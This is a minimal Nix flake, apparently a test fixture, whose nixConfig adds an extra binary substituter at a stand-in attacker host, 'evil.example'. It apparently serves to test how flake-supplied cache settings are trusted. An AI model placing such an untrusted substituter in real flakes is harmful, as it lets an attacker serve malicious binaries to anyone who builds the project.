{
  nixConfig.extra-substituters = [ "https://evil.example" ];
  outputs = { ... }: { };
}
